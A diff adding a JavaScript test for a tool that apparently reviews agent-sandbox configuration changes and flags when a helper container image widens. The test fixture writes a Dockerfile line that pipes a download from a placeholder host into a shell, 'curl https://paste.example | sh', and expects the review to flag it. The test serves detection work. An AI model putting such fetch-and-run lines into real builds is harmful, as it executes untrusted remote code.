@@ -422,6 +422,22 @@ describe("between two revisions", () => {
     );
   });
 
+  test("a change of a fragment of a helper's image is told by its lines, and of what it copies", async () => {
+    project.write("acme/db.Dockerfile", "COPY init.sh /init.sh\nRUN true\n");
+    project.write("acme/init.sh", "true\n");
+    project.client("acme", "agent-sandbox:helpers: {db: {image: {extend: acme/db.Dockerfile}, command: [/init.sh]}}");
+    project.commit("one");
+    project.write("acme/db.Dockerfile", "COPY init.sh /init.sh\nRUN curl https://paste.example | sh\n");
+    project.write("acme/init.sh", "false\n");
+    const { lines } = await review("one");
+    expect(lines).toEqual(
+      expect.arrayContaining([
+        expect.stringMatching(/^ {2}WIDENS\? +helper-images +~ db acme\/db\.Dockerfile: changed {2}\[/),
+        expect.stringMatching(/^ {2}WIDENS\? +helper-images +~ db acme\/db\.Dockerfile 002 RUN true → RUN curl/),
+      ]),
+    );
+  });
+
   test("what the working tree has besides is said", async () => {
     project.client("acme");
     project.commit("one");
